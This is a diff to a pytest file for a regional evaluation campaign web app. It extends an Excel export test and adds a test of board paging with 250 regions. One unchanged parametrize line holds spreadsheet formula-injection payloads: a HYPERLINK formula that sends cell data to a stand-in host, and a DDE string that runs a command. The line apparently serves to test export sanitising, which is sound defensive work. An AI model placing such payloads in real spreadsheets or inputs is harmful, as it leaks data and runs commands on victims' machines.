@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import io
 import re
+from pathlib import Path
 
 import pytest
 from drive import Driver
@@ -12,6 +13,8 @@ from web_fixtures import BEIJING, TIANJIN, add_web_user, login, post, set_passwo
 
 from engine.accounts import Grant
 from engine.store.models import Region
+
+MASS = Path(__file__).parent / "bundles" / "mass-campaign"
 
 
 @pytest.fixture
@@ -62,7 +65,8 @@ def test_results_chart_ranking_and_excel(client, scored):
     assert response.mimetype.endswith("spreadsheetml.sheet")
     sheet = load_workbook(io.BytesIO(response.data)).active
     rows = list(sheet.iter_rows(min_row=3, values_only=True))
-    assert rows == [(1, BEIJING, "北京市", 91.5, "A", "否"), (2, TIANJIN, "天津市", 55, "D", "否")]
+    assert rows == [(1, BEIJING, "北京市", 91.5, "A", "否", "通报表扬"),
+                    (2, TIANJIN, "天津市", 55, "D", "否", "书面整改")]
 
 
 @pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+1+cmd|' /C calc'!A0",
@@ -125,3 +129,25 @@ def _campaigns(engine):
 
     with engine.store.read() as session:
         return list(session.scalars(select(Campaign)))
+
+
+def test_the_board_of_a_large_campaign_is_paged_with_figures_for_all_regions(client, engine):
+    engine.deploy(MASS)
+    codes = [str(700001 + n) for n in range(250)]
+    with engine.store.write() as session:
+        session.add_all(Region(code=c, name=f"测试地区{c}", region_set="mass-campaign") for c in codes)
+    campaign = engine.start_campaign("mass-campaign", 2025)
+    set_passwords(engine)
+    login(client, "lead_agency")
+    first = client.get(f"/campaigns/{campaign.id}").text
+    assert first.count('<tr data-region="') == 100 and f'data-region="{codes[0]}"' in first
+    assert 'id="region-count">250<' in first and "第 1 页，共 3 页" in first
+    # every region has reported: the grade chart counts all 250, the ranking is one link away
+    assert 'id="results-link"' in first and 'id="ranking"' not in first
+    chart = first.split('id="grade-chart"')[1].split("</svg>")[0]
+    assert sum(int(n) for n in re.findall(r'text-anchor="middle">(\d+)</text>', chart)) == 250
+    last = client.get(f"/campaigns/{campaign.id}?page=3").text
+    assert last.count('<tr data-region="') == 50 and f'data-region="{codes[-1]}"' in last
+    assert client.get(f"/campaigns/{campaign.id}?page={2**70}").status_code == 200  # past the end: the last page
+    ranking = client.get(f"/campaigns/{campaign.id}/results").text.split('id="ranking"')[1]
+    assert ranking.count("<tr data-region=") == 250
